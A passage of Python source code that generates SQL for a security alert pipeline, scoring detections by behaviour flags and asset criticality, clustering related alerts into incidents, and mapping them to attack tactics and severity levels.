         dt.evidence_count, a0.suppressed, dt.score, dt.ioc_id, dt.techniques, dt.tactics, ev.host, ev."user", ev.source_ip
  FROM a0 JOIN dt USING (detection_id) JOIN ev ON ev.e = dt.trigger_e
), ae AS (
  SELECT DISTINCT 'ALT-' || upper(substr(sha256(dt.dedup_key), 1, 12)) AS alert_id, ed.e, ed.event_id, ed.us, dt.rule_id
  FROM ed JOIN dt USING (detection_id)
), oe AS (
  SELECT al0.alert_id, ed.e FROM al0 JOIN ed USING (detection_id)
), ax AS (
  SELECT DISTINCT alert_id, entity FROM (
    SELECT alert_id, unnest(['host:' || host, 'user:' || "user", 'ip:' || source_ip, 'ip:' || destination_ip, 'cloud:' || cloud_account]) AS entity
    FROM oe JOIN ev USING (e)) WHERE entity IS NOT NULL
), fl AS (
  SELECT e, greatest(
      CASE WHEN m_uid_zero THEN 1.00 ELSE 0 END, CASE WHEN m_high_risk_policy THEN 0.95 ELSE 0 END,
      CASE WHEN m_privileged_group THEN 0.85 ELSE 0 END, CASE WHEN m_persistence_path THEN 0.80 ELSE 0 END,
      CASE WHEN m_setuid THEN 0.80 ELSE 0 END, CASE WHEN m_elevated THEN 0.55 ELSE 0 END,
      CASE WHEN m_internal_lateral_candidate THEN 0.60 ELSE 0 END, CASE WHEN m_sensitive_file THEN 0.65 ELSE 0 END,
      CASE WHEN m_invalid_user THEN 0.35 ELSE 0 END,
      CASE WHEN m_indicator = 'credential_file_access' THEN 0.65 WHEN m_indicator IS NOT NULL THEN 0.55 ELSE 0 END) AS behaviour,
    CASE WHEN host IS NOT NULL THEN 1 + (k % 20) % 5 END AS criticality, ("user" IS NOT NULL AND u % 10 = 0) AS privileged,
    (SELECT count(*) FROM im WHERE im.e = ev.e) AS iocs
  FROM ev
), af AS (
  SELECT alert_id, max(behaviour) AS behaviour, max(criticality) AS criticality, bool_or(privileged) AS privileged, sum(iocs) AS iocs
  FROM oe JOIN fl USING (e) GROUP BY alert_id
), ap AS (
  SELECT al0.*,
    round(100 * 0.30 * CASE severity WHEN 'info' THEN 0.10 WHEN 'low' THEN 0.30 WHEN 'medium' THEN 0.55 WHEN 'high' THEN 0.80 ELSE 1.0 END, 2) AS r_severity,
    round(100 * 0.20 * first_confidence, 2) AS r_confidence,
    round(100 * 0.15 * least(1.0, coalesce(criticality / 5.0, 0.40) + CASE WHEN privileged THEN 0.15 ELSE 0 END), 2) AS r_asset,
    round(greatest(behaviour, coalesce(score, 0)), 3) AS behaviour,
    round(100 * 0.15 * greatest(behaviour, coalesce(score, 0)), 2) AS r_behavioural,
    round(100 * 0.10 * CASE WHEN iocs = 0 AND ioc_id IS NULL THEN 0 WHEN ioc_id IS NOT NULL THEN first_confidence ELSE 0.6 END, 2) AS r_indicator,
    round(100 * 0.10 * least(1.0, 0.55 * ln(1 + evidence_count) / ln(21) + 0.45 * least(1.0, len(tactics) / 5.0)), 2) AS r_correlation
  FROM al0 JOIN af USING (alert_id)
), sa0 AS (
  SELECT *, round(least(100.0, round(r_severity + r_confidence + r_asset + r_behavioural + r_indicator + r_correlation, 6)), 1) AS risk_score FROM ap
)"""


def with_alerts(body: str, stretch: int, *ctes: str) -> str:
    return with_ev(body, alert_ctes(stretch), *ctes)


# ---- incidents ------------------------------------------------------------------------------------
def rank_sql(column: str) -> str:
    return f"CASE {column} WHEN 'critical' THEN 4 WHEN 'high' THEN 3 WHEN 'medium' THEN 2 WHEN 'low' THEN 1 ELSE 0 END"


SEVERITY_NAMES = "['info', 'low', 'medium', 'high', 'critical']"


def catalogue_ctes() -> str:
    tactics = ", ".join(f"('{t}', '{n}', {p})" for t, n, p in TACTICS)
    techniques = ", ".join(f"('{t}', '{n}', string_split('{' '.join(x)}', ' '))" for t, n, x in TECHNIQUES)
    return f"""tc AS (SELECT * FROM (VALUES {tactics}) t(tactic_id, tactic, position)),
tq AS (SELECT * FROM (VALUES {techniques}) t(technique_id, name, tactic_ids)),
tt AS (SELECT technique_id, name, x.tactic_id, tactic, position FROM (SELECT technique_id, name, unnest(tactic_ids) AS tactic_id FROM tq) x JOIN tc USING (tactic_id)),
tp AS (SELECT technique_id, any_value(name) AS name, arg_min(tactic_id, position) AS tactic_id, arg_min(tactic, position) AS tactic, min(position) AS position FROM tt GROUP BY 1)"""


def cluster_ctes(window_seconds: int = 1800, source: str = "al0", prefix: str = "") -> str:
    """``cl``: cluster of each alert in ``source``; ``cw``: cluster spans."""
    w, p = window_seconds * 1_000_000, prefix
    return f"""{p}lk AS (
  SELECT DISTINCT a.alert_id AS a, b.alert_id AS b FROM ax a JOIN ax b ON a.entity = b.entity
  JOIN {source} la ON la.alert_id = a.alert_id JOIN {source} lb ON lb.alert_id = b.alert_id
  WHERE a.alert_id <> b.alert_id AND greatest(la.first_us - lb.last_us, lb.first_us - la.last_us) <= {w}
), {p}cc(id, root) AS (
  SELECT alert_id, alert_id FROM {source} UNION SELECT lk.b, cc.root FROM {p}cc cc JOIN {p}lk lk ON lk.a = cc.id
), {p}cl AS (SELECT id AS alert_id, min(root) AS cluster FROM {p}cc GROUP BY id),
{p}cw AS (
  SELECT cluster, min(first_us) AS first_us, max(last_us) AS last_us, count(*) AS alert_count FROM {p}cl JOIN {source} USING (alert_id) GROUP BY 1
)"""


def case_ctes() -> str:
    """Incident tables: ``ia`` alerts, ``ie`` events, ``ien`` entities, ``ik`` keys, ``it`` techniques, ``ich`` chain, ``inc`` rows."""
    return cluster_ctes() + ",\n" + catalogue_ctes() + f""",
ci AS (
  SELECT cluster, 'INC-' || y || '-' || lpad(CAST(row_number() OVER (PARTITION BY y ORDER BY first_us, cluster) AS VARCHAR), 4, '0') AS incident_id
  FROM (SELECT *, year(make_timestamp(first_us)) AS y FROM cw)
), ia AS (SELECT sa0.*, ci.incident_id FROM sa0 JOIN cl USING (alert_id) JOIN ci USING (cluster)),
ie AS (
  SELECT incident_id, e, max({rank_sql('severity')}) AS severity_rank FROM ae JOIN (SELECT alert_id, incident_id, severity FROM ia) USING (alert_id) GROUP BY 1, 2
), ien AS (
  SELECT incident_id, kind, value, CASE WHEN kind = 'user' AND NOT bool_or(status <> 'failure') THEN 'targeted' ELSE 'affected' END AS role, count(*) AS events
  FROM (SELECT incident_id, status, x.kind, x.value FROM (
    SELECT incident_id, status, unnest([{{'kind': 'host', 'value': host}}, {{'kind': 'user', 'value': "user"}}, {{'kind': 'source_ip', 'value': source_ip}},
      {{'kind': 'destination_ip', 'value': destination_ip}}, {{'kind': 'cloud', 'value': cloud_account}}]) AS x FROM ie JOIN ev USING (e)) WHERE x.value IS NOT NULL)
  GROUP BY 1, 2, 3
), ik AS (SELECT incident_id, entity, count(*) AS alert_count FROM ax JOIN ia USING (alert_id) GROUP BY 1, 2),
itx AS (SELECT DISTINCT alert_id, incident_id, rule_id, confidence, detected_us, unnest(techniques) AS technique_id FROM ia),
ite AS (SELECT DISTINCT incident_id, technique_id, ae.e, ae.event_id, ae.us FROM itx JOIN ae USING (alert_id)),
it AS (
  SELECT incident_id, technique_id, tp.name, tp.tactic_id, tp.tactic, tp.position, x.confidence, first_us, last_us, detected_us, rules, event_count
  FROM (SELECT incident_id, technique_id, round(max(confidence), 3) AS confidence, min(detected_us) AS detected_us,
               array_to_string(list_sort(list(DISTINCT rule_id)), ',') AS rules FROM itx GROUP BY 1, 2) x
  JOIN (SELECT incident_id, technique_id, min(us) AS first_us, max(us) AS last_us, count(*) AS event_count FROM ite GROUP BY 1, 2) USING (incident_id, technique_id)
  LEFT JOIN tp USING (technique_id)
), ich AS (
  SELECT incident_id, tactic_id, any_value(tactic) AS tactic, any_value(position) AS position, min(first_us) AS first_us, max(last_us) AS last_us,
         min(detected_us) AS detected_us, max(confidence) AS confidence,
         array_to_string(list_sort(list(technique_id)), ',') AS techniques,
         row_number() OVER (PARTITION BY incident_id ORDER BY min(detected_us), any_value(position)) AS stage
  FROM it WHERE tactic_id IS NOT NULL GROUP BY 1, 2
), ig AS (
  SELECT incident_id, max(gap) AS gap FROM (SELECT incident_id, detected_us - lag(detected_us) OVER (PARTITION BY incident_id ORDER BY detected_us) AS gap FROM ia) GROUP BY 1
), ib AS (
  SELECT incident_id, count(*) AS alert_count, min(first_us) AS first_us, max(last_us) AS last_us, min(detected_us) AS first_alert_us,
         round(avg(confidence), 9) AS mean_confidence, max({rank_sql('severity')}) AS base_rank, max(behaviour) AS anomaly,
         array_to_string(list_sort(list_distinct(flatten(list(techniques)))), ',') AS technique_ids,
         array_to_string(list_sort(list(DISTINCT rule_id)), ',') AS rule_ids FROM ia GROUP BY 1
), iv AS (
  SELECT incident_id, count(*) AS event_count, max(behaviour) AS behaviour FROM ie JOIN fl USING (e) GROUP BY 1
), ii AS (SELECT incident_id, count(*) AS ioc_count, max(ioc_confidence) AS ioc_best FROM ie JOIN (SELECT DISTINCT e, ioc_id, matched_field, ioc_confidence FROM im) USING (e) GROUP BY 1),
ix AS (
  SELECT ib.*, coalesce(event_count, 0) AS event_count, coalesce(ioc_count, 0) AS ioc_count, coalesce(ioc_best, 0) AS ioc_best, top_entity, gap,
    coalesce(tactics, 0) AS tactics, criticality, coalesce(privileged, FALSE) AS privileged, greatest(behaviour, coalesce(anomaly, 0)) AS deviation,
    (last_us - first_us) // 1000000 AS duration_seconds
  FROM ib LEFT JOIN iv USING (incident_id) LEFT JOIN ii USING (incident_id) LEFT JOIN ig USING (incident_id)
  LEFT JOIN (SELECT incident_id, max(alert_count) AS top_entity FROM ik GROUP BY 1) USING (incident_id)
  LEFT JOIN (SELECT incident_id, count(DISTINCT tactic_id) AS tactics FROM itx JOIN tt USING (technique_id) GROUP BY 1) USING (incident_id)
  LEFT JOIN (SELECT incident_id, max(1 + CAST(substr(value, 6) AS INTEGER) % 5) AS criticality FROM ien WHERE kind = 'host' GROUP BY 1) USING (incident_id)
  LEFT JOIN (SELECT incident_id, bool_or(CAST(substr(value, 6) AS INTEGER) % 10 = 0) AS privileged FROM ien WHERE kind = 'user' AND role = 'affected' GROUP BY 1) USING (incident_id)
), iy AS (
  SELECT *, round(round(least(0.98, 0.30 * mean_confidence + 0.20 * least(1.0, ln(1 + event_count) / ln(26))
      + 0.15 * CASE WHEN top_entity IS NULL THEN 0 WHEN alert_count <= 1 THEN 0.5 ELSE top_entity / alert_count END
      + 0.15 * CASE WHEN gap IS NULL THEN 0.5 ELSE greatest(0.0, 1.0 - (gap / 1e6) / 3600.0) END
      + 0.15 * least(1.0, tactics / 5.0) + 0.05 * CASE WHEN ioc_count > 0 THEN 1 ELSE 0 END), 9), 3) AS confidence
  FROM ix
), iz AS (
  SELECT *, round(least(100.0, round(
      round(30 * [0.10, 0.30, 0.55, 0.80, 1.00][base_rank + 1], 2) + round(20 * confidence, 2)
      + round(15 * least(1.0, coalesce(criticality / 5.0, 0.40) + CASE WHEN privileged THEN 0.15 ELSE 0 END), 2)
      + round(15 * deviation, 2) + round(10 * CASE WHEN ioc_count = 0 THEN 0 WHEN ioc_best = 0 THEN 0.6 ELSE least(1.0, ioc_best) END, 2)
      + round(10 * least(1.0, 0.55 * ln(1 + event_count) / ln(21) + 0.45 * least(1.0, tactics / 5.0)), 2), 6)), 1) AS risk_score
  FROM iy
), inc AS (
  SELECT *, {SEVERITY_NAMES}[greatest(base_rank, CASE WHEN risk_score >= 76 THEN 4 WHEN risk_score >= 51 THEN 3 WHEN risk_score >= 26 THEN 2 ELSE 1 END) + 1] AS severity
  FROM iz
)"""


def with_cases(body: str, stretch: int, *ctes: str) -> str:
    return with_ev(body, alert_ctes(stretch), case_ctes(), *ctes)
